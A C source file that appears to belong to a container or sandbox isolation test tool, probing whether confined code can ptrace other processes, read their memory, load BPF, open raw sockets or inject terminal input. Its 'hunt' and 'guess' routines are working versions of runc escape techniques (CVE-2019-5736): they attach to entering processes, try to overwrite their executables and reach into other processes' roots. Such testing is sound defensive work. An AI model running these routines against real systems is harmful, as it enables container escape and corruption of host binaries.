/* Attacks on other processes, on the kernel's own state, and by way of sockets; see atk.c. */
#define _GNU_SOURCE
#include <dirent.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>

#include "atk.h"

int do_ptrace(int argc, char **argv) {
  pid_t pid = (pid_t)atoi(word(argc, argv, 1));
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) return -1;
  ptrace(PTRACE_DETACH, pid, NULL, NULL);
  return 0;
}

int do_peek(int argc, char **argv) {
  char byte;
  struct iovec here = {.iov_base = &byte, .iov_len = 1};
  struct iovec there = {.iov_base = (void *)0x400000, .iov_len = 1};
  ssize_t count = process_vm_readv((pid_t)atoi(word(argc, argv, 1)), &here, 1, &there, 1, 0);
  return count < 0 && errno == EFAULT ? 0 : count < 0 ? -1 : 0;
}

int do_signal(int argc, char **argv) { return kill((pid_t)atoi(word(argc, argv, 1)), 0); }

int do_hostname(int argc, char **argv) {
  (void)argc;
  (void)argv;
  char name[256];
  return gethostname(name, sizeof(name)) < 0 ? -1 : sethostname(name, strlen(name));
}

int do_clock(int argc, char **argv) {
  (void)argc;
  (void)argv;
  struct timespec now;
  clock_gettime(CLOCK_REALTIME, &now);
  return clock_settime(CLOCK_REALTIME, &now);
}

int do_kernel_log(int argc, char **argv) {
  (void)argc;
  (void)argv;
  char bytes[64];
  return klogctl(3 /* READ_ALL */, bytes, sizeof(bytes)) < 0 ? -1 : 0;
}

int do_bpf(int argc, char **argv) {
  (void)argc;
  (void)argv;
  struct bpf_insn program[] = {{.code = 0xb7}, {.code = 0x95}};
  union bpf_attr attributes = {0};
  attributes.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  attributes.insns = (uintptr_t)program;
  attributes.insn_cnt = 2;
  attributes.license = (uintptr_t) "GPL";
  return close_and((int)syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof(attributes)));
}

int do_perf(int argc, char **argv) {
  (void)argc;
  (void)argv;
  struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof(event)};
  event.config = PERF_COUNT_SW_CPU_CLOCK;
  return close_and((int)syscall(SYS_perf_event_open, &event, -1, 0, -1, 0)); /* all of cpu 0 */
}

int do_packets(int argc, char **argv) {
  (void)argc;
  (void)argv;
  return close_and(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
}

/* A socket with a name, or with @ an abstract one: bound, or connected to. */
static int open_socket(const char *name, int (*how)(int, const struct sockaddr *, socklen_t)) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t length = strlen(name) < sizeof(address.sun_path) ? strlen(name) : 0;
  memcpy(address.sun_path, name, length);
  if (*name == '@') address.sun_path[0] = '\0';
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length);
  return how(fd, (struct sockaddr *)&address, size) < 0 ? -1 : fd;
}

int do_connect(int argc, char **argv) {
  return close_and(open_socket(word(argc, argv, 1), connect));
}

int do_ask(int argc, char **argv) {
  char answer[64];
  signal(SIGPIPE, SIG_IGN);
  int fd = open_socket(word(argc, argv, 1), connect);
  if (fd < 0 || dprintf(fd, "%s\n", word(argc, argv, 2)) < 0) return -1;
  errno = EPIPE;
  ssize_t count = read(fd, answer, sizeof(answer));
  if (count > 0) printf("%.*s", (int)count, answer);
  return count > 0 ? 0 : -1;
}

int do_listen(int argc, char **argv) {
  int fd = open_socket(word(argc, argv, 1), bind);
  if (fd < 0 || listen(fd, 8) < 0) return -1;
  puts("listening");
  fflush(stdout);
  for (;;) close_and(accept(fd, NULL, NULL));
}

int do_push_input(int argc, char **argv) {
  unsigned long request = TIOCSTI;
  if (strcmp(word(argc, argv, 1), "wide") == 0) request |= 0x12300000000ul;
  return (int)syscall(SYS_ioctl, 0, request, "x");
}

/* A program with the set-user-id bit, run by somebody else. */
int do_set_user(int argc, char **argv) {
  if (setresuid(1000, 1000, 1000) < 0) return -1;
  execl(word(argc, argv, 1), "atk", "is-root", (char *)NULL);
  return -1;
}

int do_is_root(int argc, char **argv) {
  (void)argc;
  (void)argv;
  errno = EPERM;
  return geteuid() == 0 ? 0 : -1;
}

struct prey {
  long seen;
  long attached;
  long early; /* while it still had more rights than those inside */
  long listed;
  long written;
  char exe[256];
};

/* Whether it still has what those inside may not have. */
static int is_early(pid_t pid) {
  char path[64];
  char line[256];
  int found = 0;
  snprintf(path, sizeof(path), "/proc/%d/status", pid);
  FILE *status = fopen(path, "re");
  while (status && fgets(line, sizeof(line), status)) found |= !strcmp(line, "NoNewPrivs:\t0\n");
  if (status) fclose(status);
  return found;
}

/* What an attacker does to a process that comes in (CVE-2016-9962, CVE-2019-5736). */
static void pounce(pid_t pid, struct prey *prey, int *exes, int count) {
  char path[64];
  char target[256];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  ssize_t length = readlink(path, target, sizeof(target) - 1);
  target[length > 0 ? length : 0] = '\0';
  if (strncmp(target, "/atk", 4) == 0 || strncmp(target, "/probe", 6) == 0) return;
  prey->seen++;
  if (*target) snprintf(prey->exe, sizeof(prey->exe), "%s", target);
  int exe = open(path, O_PATH | O_CLOEXEC);
  if (exe >= 0 && count > 0) exes[prey->seen % count] = exe;
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    waitpid(pid, NULL, __WALL);
    prey->attached++;
    prey->early += is_early(pid);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  }
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR *fds = opendir(path);
  if (fds) {
    prey->listed++;
    closedir(fds);
  }
}

static void overwrite(int *exes, int count, struct prey *prey) {
  for (int i = 0; i < count; i++) {
    char path[64];
    if (exes[i] < 0) continue;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", exes[i]);
    int writable = open(path, O_WRONLY | O_CLOEXEC);
    if (writable >= 0 && pwrite(writable, "#", 1, 0) == 1) prey->written++;
    if (writable >= 0) close(writable);
  }
}

int hunt(int seconds) {
  enum { KEPT = 16 };
  int exes[KEPT];
  struct prey prey = {0};
  time_t end = time(NULL) + seconds;
  for (int i = 0; i < KEPT; i++) exes[i] = -1;
  puts("hunting");
  fflush(stdout);
  while (time(NULL) < end) {
    DIR *entries = opendir("/proc");
    for (struct dirent *entry; entries && (entry = readdir(entries));) {
      pid_t pid = (pid_t)atoi(entry->d_name);
      if (pid > 1 && pid != getpid()) pounce(pid, &prey, exes, KEPT);
    }
    if (entries) closedir(entries);
    overwrite(exes, KEPT, &prey);
  }
  printf("seen %ld attached %ld early %ld listed %ld written %ld exe %s\n", prey.seen,
         prey.attached, prey.early, prey.listed, prey.written, prey.exe);
  return 0;
}

/* The process number that was given away last, here. */
static pid_t last_pid(void) {
  char text[128];
  int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  ssize_t count = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
  if (fd >= 0) close(fd);
  text[count > 0 ? count : 0] = '\0';
  const char *last = strrchr(text, ' ');
  return last ? (pid_t)atoi(last + 1) : 0;
}

int guess(int seconds, const char *file) {
  enum { AHEAD = 3, BEHIND = 4 };
  long tried = 0;
  long reached = 0;
  char path[256];
  time_t end = time(NULL) + seconds;
  puts("guessing");
  fflush(stdout);
  while (time(NULL) < end) {
    pid_t last = last_pid();
    for (pid_t pid = last - BEHIND; pid <= last + AHEAD; pid++) {
      snprintf(path, sizeof(path), "/proc/%d/root%s", pid, file);
      tried++;
      reached += access(path, F_OK) == 0;
    }
  }
  printf("tried %ld reached %ld\n", tried, reached);
  return 0;
}
